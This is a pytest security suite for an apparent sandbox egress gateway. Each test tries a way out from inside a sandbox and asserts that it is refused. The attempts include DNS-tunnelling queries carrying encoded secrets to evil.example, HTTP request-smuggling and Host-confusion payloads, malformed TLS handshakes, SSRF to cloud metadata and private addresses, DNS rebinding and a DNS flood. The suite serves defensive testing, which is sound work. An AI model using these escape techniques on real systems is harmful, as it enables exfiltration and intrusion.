"""What gets out of a sandbox with an allowlist, tried from inside a real one."""

import asyncio
import time
from collections.abc import AsyncIterator
from dataclasses import replace
from pathlib import Path

import pytest

from paddock.adapters.egress.config import EgressConfig
from paddock.adapters.providers.local.runtime import installed
from paddock.adapters.store.store import open_store
from paddock.domain.egress import EgressPolicy, NetworkMode
from paddock.domain.ids import new_id
from paddock.domain.team import Team
from paddock.gateway.journal import BURST, OTHERS, OTHERS_EVERY_S, PER_SECOND
from paddock.ports.clock import SystemClock
from paddock.ports.provider import SandboxSpec
from paddock.services.egress_log import EgressLog
from tests.adapters.store.samples import sandbox
from tests.conftest import Need
from tests.security.egress_world import (
    ALLOWED,
    CONTROL_PORT,
    NAMES,
    Inside,
    World,
    allowlist,
    hosts,
    on_docker,
    on_local,
)
from tests.upstreams import gateway_of, upstream

pytestmark = pytest.mark.timeout(120)


@pytest.fixture(
    scope="module",
    params=[
        "local-crun",
        *(pytest.param(kind, marks=pytest.mark.slow) for kind in ("local-runc", "docker")),
    ],
)
async def world(request: pytest.FixtureRequest, need: Need) -> AsyncIterator[World]:
    kind, _, runtime = request.param.partition("-")
    if kind == "local" and runtime not in installed():
        need(runtime, "not installed")
    async with upstream(*NAMES, "blocked.example") as there:
        egress = EgressConfig(hosts=hosts(there))
        if kind == "local":
            opening = on_local(runtime, egress)
        else:
            request.getfixturevalue("base_image")
            opening = on_docker(request.getfixturevalue("engine_host"), egress)
        async with opening as provider:
            yield World(provider, there)


@pytest.fixture
async def inside(world: World) -> AsyncIterator[Inside]:
    async with world.sandbox() as made:
        yield made


@pytest.mark.proves("P16")
async def test_allowed_hosts_are_reached_by_programs_that_know_nothing_of_it(inside: Inside):
    assert await inside.curl("http://allowed.example/x") == (0, "GET allowed.example /x 0 \n")
    assert (await inside.curl("http://a.wild.example/x"))[0] == 0
    code, said = await inside.curl("-k", "https://allowed.example/x")
    assert (code, said) == (0, "GET allowed.example /x 0 allowed.example\n")
    assert (await inside.curl("-d", "hello", "http://allowed.example/p"))[1].endswith("/p 5 \n")
    said = await inside.python(
        "import urllib.request as r; print(r.urlopen('http://allowed.example/u', timeout=5).status)"
    )
    assert said == "200"


async def test_a_proxy_is_there_for_programs_that_want_one(inside: Inside):
    proxy = ("-x", "http://127.0.0.1:3128")
    assert (await inside.curl(*proxy, "http://allowed.example/x"))[1].startswith("GET allowed")
    assert (await inside.curl(*proxy, "-k", "https://allowed.example/x"))[0] == 0
    assert (await inside.curl(*proxy, "-p", "http://allowed.example/x"))[0] == 0
    code, said = await inside.curl(*proxy, "http://blocked.example/x")
    assert "no rule allows it" in said
    code, said = await inside.curl(*proxy, "https://blocked.example/x")
    assert code == 56
    assert "403" in said


@pytest.mark.proves("P16")
async def test_raw_protocols_go_by_name_whoever_speaks_first(inside: Inside):
    said = await inside.python(
        "import socket\n"
        "s = socket.create_connection(('tcp.example', 22), 5)\n"
        "print(s.recv(100)); s.sendall(b'SSH-2.0-me\\r\\n'); print(s.recv(100))\n"
        "s = socket.create_connection(('tcp.example', 5432), 5)\n"
        "s.sendall(bytes(8) + b'x'); print(s.recv(100))\n"
    )
    assert said.splitlines() == [
        "b'SSH-2.0-upstream\\r\\n'",
        "b'SSH-2.0-me\\r\\n'",
        "b'\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00x'",
    ]


_ENDINGS = """
import socket, ssl
CLOSE = b"GET /x HTTP/1.1\\r\\nHost: allowed.example\\r\\nConnection: close\\r\\n\\r\\n"
KEEP = CLOSE.replace(b"Connection: close\\r\\n", b"")
def get(port, request, how):
    s = socket.create_connection(("allowed.example", port), 5)
    if port == 443:
        context = ssl.create_default_context()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        s = context.wrap_socket(s, server_hostname="allowed.example")
    if port == 5432:
        s.close(); s = socket.create_connection(("tcp.example", 5432), 5)
    s.sendall(request)
    if how == "half": s.shutdown(socket.SHUT_WR)
    if how == "reset": s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, bytes([1] + [0] * 7))
    while how not in ("early", "reset") and s.recv(65536):
        if how == "once": break
    s.close()
for port in (80, 443):
    for _ in range(5):
        get(port, CLOSE, "wait"); get(port, KEEP, "once"); get(port, CLOSE, "half")
        get(port, KEEP, "early"); get(port, KEEP, "reset")
for _ in range(5):
    get(5432, b"\\0raw", "half"); get(5432, b"\\0raw", "once")
print("done")
"""


async def test_connections_that_have_ended_leave_nothing_behind(world: World, inside: Inside):
    """Whoever ends first, and however: one that stayed would count until nothing more gets out."""
    async with world.nothing_left():
        assert await inside.python(_ENDINGS) == "done"
        for more in ((), ("-x", "http://127.0.0.1:3128"), ("-p", "-x", "http://127.0.0.1:3128")):
            for url in ("http://allowed.example/x", "https://allowed.example/x"):
                assert (await inside.curl("-k", "-H", "Connection: close", *more, url))[0] == 0
            await inside.curl(*more, f"http://{world.there.address}/")


@pytest.mark.proves("P16")
async def test_a_name_without_a_rule_does_not_exist_and_says_so_at_once(inside: Inside):
    began = time.monotonic()
    for name in ("blocked.example", "wild.example", "allowed.example.evil.example"):
        code, said = await inside.curl(f"http://{name}/")
        assert code == 6, (name, said)
    assert time.monotonic() - began < 20


@pytest.mark.proves("P16")
async def test_a_literal_address_needs_a_rule_of_its_own(world: World, inside: Inside):
    address = world.there.address
    code, said = await inside.curl(f"http://{address}/")
    assert "no rule allows it" in said
    assert f"paddock egress allow {inside.ref.id} {address}:80" in said
    code, said = await inside.curl("-k", f"https://{address}/")
    assert (code, "access denied" in said) == (35, True)
    await world.provider.set_egress(inside.ref, allowlist(f"{address}:80"))
    assert (await inside.curl(f"http://{address}/x"))[1].startswith(f"GET {address} /x")


_ATTEMPT = """
import socket, sys, time
def attempt(kind, *where):
    began = time.monotonic()
    try:
        if kind == 'tcp':
            s = socket.create_connection(where, 5); s.sendall(b'\\0binary'); said = s.recv(10)
        elif kind == 'udp':
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
            s.connect(where); s.send(b'x'); said = s.recv(10)
        elif kind == 'udp6':
            s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.settimeout(5)
            s.connect(where); s.send(b'x'); said = s.recv(10)
        elif kind == 'raw':
            s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); said = b'raw'
    except OSError as error:
        said = type(error).__name__
    late = time.monotonic() - began > 2
    print(kind, *where, 'LATE' if late else '', said or 'closed')
"""


@pytest.mark.proves("P16")
async def test_raw_tcp_udp_icmp_and_ipv6_are_refused_at_once(world: World, inside: Inside):
    address = world.there.address
    said = await inside.python(
        _ATTEMPT + f"attempt('tcp', '{address}', 5432)\n"
        f"attempt('tcp', '{address}', 443)\n"
        f"attempt('udp', '{address}', 443)\n"
        "attempt('udp', '8.8.8.8', 123)\n"
        "attempt('tcp', '2606:4700::1111', 443)\n"
        "attempt('udp6', '2606:4700::1111', 53)\n"
        "attempt('raw')\n"
    )
    for line in said.splitlines():
        assert line.endswith(("Error", "closed")), said
        assert "LATE" not in line


_DNS = """
import socket, struct, sys
def ask(name, kind=1, server='8.8.8.8', tcp=False):
    question = b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\\0'
    packet = struct.pack('!6H', 7, 0x100, 1, 0, 0, 0) + question + struct.pack('!HH', kind, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM)
    s.settimeout(3); s.connect((server, 53))
    s.sendall(struct.pack('!H', len(packet)) + packet if tcp else packet)
    answer = s.recv(4096)[2 if tcp else 0:]
    code, count = answer[3] & 15, struct.unpack_from('!H', answer, 6)[0]
    print(name[:30], kind, code, count, socket.inet_ntoa(answer[-4:]) if count else '')
"""


@pytest.mark.proves("P16")
async def test_dns_answers_allowed_names_with_our_addresses_and_tunnels_nothing(inside: Inside):
    said = await inside.python(
        _DNS + "ask('allowed.example')\n"
        "ask('allowed.example', tcp=True)\n"
        "ask('allowed.example', server='1.1.1.1')\n"
        "ask('allowed.example', 28)\n"
        "ask('allowed.example', 16)\n"
        "ask('c2VjcmV0.tunnel.evil.example', 16)\n"
        "ask('c2VjcmV0.allowed.example', 16)\n"
        "ask('x' * 60 + '.evil.example')\n"
    )
    lines = [line.split() for line in said.splitlines()]
    assert [line[2] for line in lines] == ["0", "0", "0", "0", "0", "3", "3", "3"]
    assert [line[3] for line in lines] == ["1", "1", "1", "0", "0", "0", "0", "0"]
    assert len({line[4] for line in lines[:3]}) == 1
    assert lines[0][4].startswith(("198.18.", "198.19."))


@pytest.mark.proves("P16")
async def test_a_wildcard_carries_no_secrets_to_a_name_server(world: World, inside: Inside):
    """Any name below it exists, and none is asked for outside before it is connected to."""
    await inside.python(_DNS + "[ask(f'secret-{n}.wild.example') for n in range(50)]\n")
    assert [flow for flow in await world.flows(inside.ref) if "secret" in flow.host] == []


@pytest.mark.proves("P16")
async def test_the_name_inside_tls_has_to_be_the_one_connected_to(inside: Inside):
    for more, refused in (
        ("-servername allowed.example", False),
        ("-servername blocked.example", True),
        ("-noservername", True),
        ("-proxy 127.0.0.1:3128 -servername allowed.example", False),
        ("-proxy 127.0.0.1:3128 -servername blocked.example", True),
    ):
        command = f"openssl s_client -connect allowed.example:443 {more} </dev/null"
        _code, said = await inside.run("sh", "-c", command)
        assert ("access denied" in said) is refused, (more, said)
        assert ("BEGIN CERTIFICATE" in said) is not refused


_HELLO = """
import socket, ssl
def answers(before, name='blocked.example'):
    context = ssl.create_default_context()
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = context.wrap_bio(incoming, outgoing, server_hostname=name or 'x')
    try: tls.do_handshake()
    except ssl.SSLWantReadError: pass
    s = socket.create_connection(('allowed.example', 443), 5); s.settimeout(5)
    try:
        s.sendall(before + (outgoing.read() if name else b'')); said = s.recv(7)
    except OSError as error:
        said = type(error).__name__.encode()
    print(said[:1].hex(), said[-1:].hex() if said[:1] == b'\\x15' else said)
"""


@pytest.mark.proves("P16")
async def test_what_is_no_readable_client_hello_is_refused_on_the_port_of_tls(inside: Inside):
    """Issue: SNI check. An alert before the ClientHello made it something that nobody reads."""
    said = await inside.python(
        _HELLO + "answers(b'', 'allowed.example')\n"
        "answers(bytes.fromhex('1503010002015a'))\n"
        "answers(bytes.fromhex('140303000101'))\n"
        "answers(bytes.fromhex('1603010000'))\n"
        "answers(bytes.fromhex('1503010002015a'), 'allowed.example')\n"
        "answers(bytes.fromhex('802e0100'), '')\n"
        "answers(b'\\0binary', '')\n"
        "answers(b'SSH-2.0-me\\r\\n', '')\n"
    )
    allowed, *refused, binary, ssh = said.splitlines()
    assert allowed.startswith("16 ")
    assert refused == ["15 31"] * 5, "the alert access_denied"
    assert "ConnectionResetError" in binary
    assert "Error" not in ssh, "what no server of TLS reads as such, and a preset allows"


@pytest.mark.proves("P16")
async def test_the_host_of_a_request_has_to_be_the_one_connected_to(inside: Inside):
    _, said = await inside.curl("-H", "Host: blocked.example", "http://allowed.example/")
    assert "the request is for blocked.example" in said
    proxy = ("-x", "http://127.0.0.1:3128")
    _, said = await inside.curl(*proxy, "-H", "Host: blocked.example", "http://allowed.example/")
    assert "different hosts" in said


_TALK = """
import socket, sys
def talk(*pieces, host='allowed.example', port=80):
    s = socket.create_connection((host, port), 5); s.settimeout(5)
    said = b''
    try:
        for piece in pieces:
            s.sendall(piece.encode('latin-1'))
            said = s.recv(65536)
            print(said.split(b'\\r\\n\\r\\n')[0].split(b'\\r\\n')[0].decode(), '|',
                  said.rpartition(b'\\r\\n\\r\\n')[2][:300].decode().strip())
    except OSError as error:
        print(type(error).__name__)
"""


@pytest.mark.proves("P16")
async def test_every_request_of_a_connection_is_looked_at(inside: Inside):
    first = "GET /1 HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\n"
    second = "GET /2 HTTP/1.1\\r\\nHost: blocked.example\\r\\n\\r\\n"
    said = await inside.python(
        _TALK + f"talk('{first}', '{first}', '{second}')\ntalk('{first}{second}')\n"
    )
    lines = said.splitlines()
    assert [line.split(" ")[1] for line in lines[:3]] == ["200", "200", "403"]
    assert "blocked.example" in lines[2]
    assert "blocked" not in lines[3] or "403" in lines[3] or "Error" in lines[3]
    assert "GET blocked.example" not in said


@pytest.mark.proves("P16")
@pytest.mark.parametrize(
    "request_text",
    [
        "GET / HTTP/1.1\\r\\nHost: allowed.example\\r\\nHost: blocked.example\\r\\n\\r\\n",
        "GET http://blocked.example/ HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\n",
        "GET / HTTP/1.1\\r\\nHost: blocked.example@allowed.example\\r\\n\\r\\n",
        "GET / HTTP/1.1\\r\\nHost: allowed.example blocked.example\\r\\n\\r\\n",
        "GET / HTTP/1.1\\r\\n\\r\\n",
        "CONNECT blocked.example:443 HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\n",
        "POST / HTTP/1.1\\r\\nHost: allowed.example\\r\\nContent-Length: 4\\r\\n"
        "Transfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n",
        "PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n",
        " GET / HTTP/1.1\\r\\nHost: blocked.example\\r\\n\\r\\n",
        "\\r\\n\\tGET / HTTP/1.1\\r\\nHost: blocked.example\\r\\n\\r\\n",
        "GET / HTTP/1.1\\r\\nHost : blocked.example\\r\\n\\r\\n",
        "GET / HTTP/1.1\\nHost: blocked.example\\n\\n",
        "GET / HTTP/1.1\\r\\nX: 1\\r\\n Host: blocked.example\\r\\n\\r\\n",
    ],
)
async def test_requests_that_could_be_read_in_two_ways_are_not_passed_on(
    inside: Inside, request_text: str
):
    said = await inside.python(_TALK + f"talk('{request_text}')\n")
    assert "200" not in said.split("|")[0], said


@pytest.mark.slow
@pytest.mark.proves("P16")
async def test_the_gateways_own_ports_are_no_way_out(inside: Inside):
    """A program that finds the port that others are turned to has not been turned anywhere."""
    said = await inside.python(
        _ATTEMPT + "attempt('tcp', '127.0.0.1', 3129)\nattempt('tcp', '127.0.0.1', 3153)\n"
    )
    for line in said.splitlines():
        assert line.endswith(("Error", "closed")), said
    assert (await inside.curl("http://allowed.example/"))[0] == 0


@pytest.mark.proves("P16")
async def test_a_redirect_leads_only_where_rules_lead(world: World, inside: Inside):
    for target, outcome in (
        ("http://a.wild.example/ok", 0),
        ("http://blocked.example/", 6),
        (f"http://{world.there.address}/", 22),
        ("http://169.254.169.254/latest/meta-data/", 22),
    ):
        code, said = await inside.curl("-fL", f"http://allowed.example/redirect?{target}")
        assert code == outcome, (target, said)


@pytest.mark.proves("P16")
@pytest.mark.parametrize(
    "target",
    [
        *("10.0.0.1:80", "127.0.0.1:22", "192.168.0.1:443", "169.254.169.254:80", "0.0.0.0:80"),
        *("[::1]:80", "[fd00:ec2::254]:80", "2130706433:80", "0x7f000001:80", "127.1:80"),
        *("localhost:22", "blocked.example:443", "198.18.0.1:53", "224.0.0.1:80", ":80", "x:99999"),
    ],
)
async def test_the_proxy_connects_to_nothing_private(inside: Inside, target: str):
    said = await inside.python(
        "import socket\n"
        "s = socket.create_connection(('127.0.0.1', 3128), 5); s.settimeout(5)\n"
        f"s.sendall(b'CONNECT {target} HTTP/1.1\\r\\nHost: {target}\\r\\n\\r\\n')\n"
        "print(s.recv(4096).split(b'\\r\\n')[0].decode())\n"
    )
    assert said.split(" ")[1] in ("400", "403"), said


@pytest.mark.proves("P16")
async def test_names_that_turn_out_to_be_private_are_refused(world: World):
    """As an attacker's own name server would answer: allowed by name, refused by address."""
    names = ("trap.example:*", "*.trap.example:*", "0.0.0.0/0:*")
    async with world.sandbox(*names) as inside:
        for name in ("trap", "metadata.trap", "host.trap", "private.trap"):
            for port in (80, CONTROL_PORT):
                code, said = await inside.curl(f"http://{name}.example:{port}/")
                assert '"egress_denied"' in said, (name, port, code, said)
        denied = [flow for flow in await world.flows(inside.ref) if not flow.allowed]
        assert {flow.host for flow in denied} >= {"trap.example", "metadata.trap.example"}
        assert not [flow for flow in await world.flows(inside.ref) if flow.allowed]


@pytest.mark.proves("P16")
async def test_a_name_that_is_bound_anew_leads_to_nothing_private(world: World):
    """What its name server says first is checked, and so is what it says later."""
    async with world.sandbox("rebind.example:*") as inside:
        known = world.gateway.config
        for address, is_let in ((world.there.address, True), ("127.0.0.1", False)):
            changed = {**known.hosts, "rebind.example": address}
            world.gateway.config = replace(known, hosts=changed)
            await world.gateway.close_ports(frozenset())
            for port in (80, CONTROL_PORT)[: 1 if is_let else 2]:
                _, said = await inside.curl(f"http://rebind.example:{port}/x")
                assert said.startswith("GET rebind.example /x") is is_let, said
                assert ('"egress_denied"' in said) is not is_let
        world.gateway.config = known
        await world.gateway.close_ports(frozenset())


@pytest.mark.proves("P16")
async def test_an_operator_opens_exactly_one_address_of_this_host_but_never_paddock(world: World):
    here = gateway_of(world.there.address)

    async def greet(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readuntil(b"\r\n\r\n")
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 4\r\nConnection: close\r\n\r\nhost")
        writer.close()

    servers = [await asyncio.start_server(greet, here, port) for port in (11434, CONTROL_PORT)]
    try:
        async with world.sandbox("host.trap.example:*", f"{here}/32:*") as inside:
            for name in ("host.trap.example", here):  # the rules of a member
                _code, said = await inside.curl(f"http://{name}:11434/")
                assert "this host itself" in said
            policy = allowlist("host.trap.example:*", f"{here}/32:*", by_operator=True)
            await world.provider.set_egress(inside.ref, policy)
            assert await inside.curl("http://host.trap.example:11434/") == (0, "host")
            assert await inside.curl(f"http://{here}:11434/") == (0, "host")
            for name in ("host.trap.example", here):
                _code, said = await inside.curl(f"http://{name}:{CONTROL_PORT}/")
                assert "Paddock's own" in said
    finally:
        for server in servers:
            server.close()


_WEBSOCKET = (
    "GET /ws HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: Upgrade\\r\\nUpgrade: {protocol}\\r\\n"
    "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\nSec-WebSocket-Version: 13\\r\\n\\r\\n"
)


@pytest.mark.proves("P16")
async def test_a_websocket_is_spliced_to_an_allowed_host_only(inside: Inside):
    good = _WEBSOCKET.format(host="allowed.example", protocol="websocket")
    bad = _WEBSOCKET.format(host="blocked.example", protocol="websocket")
    said = await inside.python(_TALK + f"talk('{good}', 'raw bytes')\ntalk('{bad}')\n")
    lines = said.splitlines()
    assert lines[0].startswith("HTTP/1.1 101")
    assert lines[1].startswith("raw bytes")
    assert lines[2].startswith("HTTP/1.1 403")


@pytest.mark.proves("P16")
async def test_an_upgrade_that_is_not_granted_hides_no_later_request(inside: Inside):
    """h2c is not passed on at all, so the server answers plainly and requests stay requests."""
    h2c = _WEBSOCKET.format(host="allowed.example", protocol="h2c")
    second = "GET /2 HTTP/1.1\\r\\nHost: blocked.example\\r\\n\\r\\n"
    said = await inside.python(_TALK + f"talk('{h2c}', '{second}')\n")
    assert [line.split(" ")[1] for line in said.splitlines()] == ["200", "403"]


@pytest.mark.proves("P16")
async def test_methods_and_paths_are_judged_request_by_request(world: World):
    async with world.sandbox("GET http://allowed.example/v1/**") as inside:
        assert (await inside.curl("http://allowed.example/v1/x"))[1].startswith("GET")
        for more in (["-d", "x", "http://allowed.example/v1/x"], ["http://allowed.example/v2"]):
            assert "no rule allows it" in (await inside.curl(*more))[1]
        _code, said = await inside.curl("--path-as-is", "http://allowed.example/v1/../v2")
        assert "no rule allows it" in said
        # The connection as such is not allowed, whatever else is spoken on it.
        assert (await inside.python(_ATTEMPT + "attempt('tcp', 'allowed.example', 80)\n")).endswith(
            ("Error", "closed")
        )


@pytest.mark.proves("P16")
async def test_no_rule_leads_to_another_sandbox_with_an_open_network(world: World):
    """Not even one of an operator for its very address; what else is private there is opened."""
    everything = ("*:*", "0.0.0.0/0:*", "10.0.0.0/8:*", "172.16.0.0/12:*", "192.168.0.0/16:*")
    async with world.sandbox() as other:
        await world.provider.set_egress(other.ref, EgressPolicy(NetworkMode.OPEN))
        await other.guest.runs.start("server", ["python3", "-m", "http.server", "8080"])
        address = await other.python(
            "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
            "s.connect(('192.0.2.1', 9)); print(s.getsockname()[0])"
        )
        async with asyncio.timeout(10):  # from this host it can be reached
            while await _answers(address, 8080) is False:
                await asyncio.sleep(0.1)
        async with world.sandbox(*everything, f"{address}/32:*") as inside:
            for more in ((), ("-x", "http://127.0.0.1:3128")):
                code, said = await inside.curl("-f", *more, f"http://{address}:8080/")
                assert code in (7, 22, 56), said
        assert await _answers(address, 8080)


async def _answers(address: str, port: int) -> bool:
    try:
        async with asyncio.timeout(5):
            _, writer = await asyncio.open_connection(address, port)
    except OSError:
        return False
    writer.close()
    return True


@pytest.mark.proves("P16")
async def test_what_is_refused_by_a_later_policy_is_cut_off(world: World, inside: Inside):
    program = (
        "import urllib.request as r\n"
        "f = r.urlopen('http://allowed.example/slow?600', timeout=60)\n"
        "print(f.readline().decode().strip(), flush=True)\n"
        "open('/tmp/ticked', 'w')\n"
        "try:\n    print(len(f.read()))\n"
        "except Exception as e: print(type(e).__name__)\n"
    )
    running = asyncio.create_task(inside.python(program))
    await inside.until_made("/tmp/ticked")
    await world.provider.set_egress(inside.ref, allowlist("a.wild.example"))
    said = await asyncio.wait_for(running, 30)
    assert said.split() == ["tick", "ConnectionResetError"]
    assert (await inside.curl("http://allowed.example/"))[0] == 6
    assert (await inside.curl("http://a.wild.example/"))[0] == 0


@pytest.mark.proves("P16")
async def test_modes_are_changed_while_it_runs(world: World, inside: Inside):
    for policy, outcome in (
        (EgressPolicy(NetworkMode.NONE), 6),
        (allowlist(*ALLOWED), 0),
        (EgressPolicy(NetworkMode.OPEN), 6),
        (allowlist(*ALLOWED), 0),
    ):
        await world.provider.set_egress(inside.ref, policy)
        assert (await inside.curl("http://allowed.example/"))[0] == outcome, policy.mode
        address = world.there.address
        _code, said = await inside.curl(f"http://{address}/")
        opened = policy.mode is NetworkMode.OPEN
        assert ("GET" in said) is opened, (policy.mode, said)


@pytest.mark.proves("P16")
async def test_a_stopped_a_paused_and_a_forked_sandbox_keep_their_fence(
    world: World, inside: Inside
):
    provider = world.provider
    await provider.pause(inside.ref)
    await provider.resume(inside.ref)
    assert (await inside.curl("http://allowed.example/"))[0] == 0
    spec = SandboxSpec(egress=allowlist("a.wild.example"))
    forked = await provider.fork(inside.ref, f"fork-{time.monotonic_ns()}", spec)
    try:
        async with world.again(forked.ref) as fork:
            assert (await fork.curl("http://a.wild.example/"))[0] == 0
            assert (await fork.curl("http://allowed.example/"))[0] == 6
    finally:
        await provider.destroy(forked.ref)
    await provider.stop(inside.ref)
    await provider.start(inside.ref)
    async with world.again(inside.ref) as again:
        assert (await again.curl("http://allowed.example/"))[0] == 0
        assert (await again.curl("http://blocked.example/"))[0] == 6


async def test_what_happened_is_told_summed_up(world: World, inside: Inside):
    await world.flows(inside.ref)
    for _ in range(5):
        await inside.curl("http://allowed.example/x")
    await inside.curl("http://blocked.example/x")
    await inside.curl(f"http://{world.there.address}/x")
    seen = {(f.host, f.port, f.allowed): f for f in await world.flows(inside.ref)}
    ok = seen["allowed.example", 80, True]
    assert (ok.connections, ok.rule, ok.source) == (5, "allowed.example", "sandbox")
    assert ok.bytes_up > 0 < ok.bytes_down
    assert ok.first_at <= ok.last_at
    assert seen["blocked.example", 0, False].why == "no rule allows the name"
    assert seen[world.there.address, 80, False].why == "no rule allows it"
    assert await world.flows(inside.ref) == []


_FLOOD = """
import os, socket, struct, sys
def ask(name):
    labels = b"".join(bytes([len(each)]) + each.encode() for each in name.split("."))
    return struct.pack("!6H", 7, 0x0100, 1, 0, 0, 0) + labels + b"\\0" + struct.pack("!2H", 1, 1)
server = next(line.split()[1] for line in open("/etc/resolv.conf") if line.startswith("nameserver"))
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(5)
for number in range(int(sys.argv[1])):
    s.sendto(ask(f"{sys.argv[2]}{number}." + "x" * 60 + "." + "y" * 60 + ".example"), (server, 53))
    s.recv(512)
print("asked")
"""


async def test_names_without_end_fill_no_database(world: World, inside: Inside, tmp_path: Path):
    """Issue: a sandbox fills the control plane's database."""
    team, rounds, each = Team(new_id("tem"), "ours", 0.0), 4, 600
    box = sandbox(team)
    await world.gateway.change(inside.ref.id, allowlist(*ALLOWED), box.id)
    async with open_store(tmp_path / "paddock.db") as store:
        await store.write(lambda tx: (tx.teams.add(team), tx.sandboxes.add(box)))
        sources = {"local": world.gateway}
        log = EgressLog(store, SystemClock(), egress=None, sources=sources, inside=_nothing)  # type: ignore[arg-type]
        began = time.monotonic()
        for number in range(rounds):
            assert await inside.python(_FLOOD, str(each), f"r{number}-") == "asked"
            await log.take("local")
        took = time.monotonic() - began
        rows = await store.read(lambda tx: tx.events.after(0, 10_000, subject=box.id))
    hosts = [row.data["host"] for row in rows if row.kind == "egress.denied"]
    assert len(hosts) <= BURST + took * PER_SECOND + took / OTHERS_EVERY_S + 2
    assert len(hosts) < rounds * each / 2
    assert OTHERS in hosts


async def _nothing(_sandbox: object) -> dict[str, str]:
    return {}


async def test_the_gateway_has_no_privilege(world: World, inside: Inside):
    (gateway,) = world.gateways()
    status = dict(
        line.split(":\t", 1)
        for line in Path(f"/proc/{gateway}/status").read_text().splitlines()
        if "\t" in line
    )
    assert status["Uid"].split() == [str(EgressConfig().gateway_uid)] * 4
    for kind in ("CapInh", "CapPrm", "CapEff", "CapAmb"):
        assert int(status[kind], 16) == 0, kind
    assert status["NoNewPrivs"] == "1"
    assert status["Groups"].strip() == ""
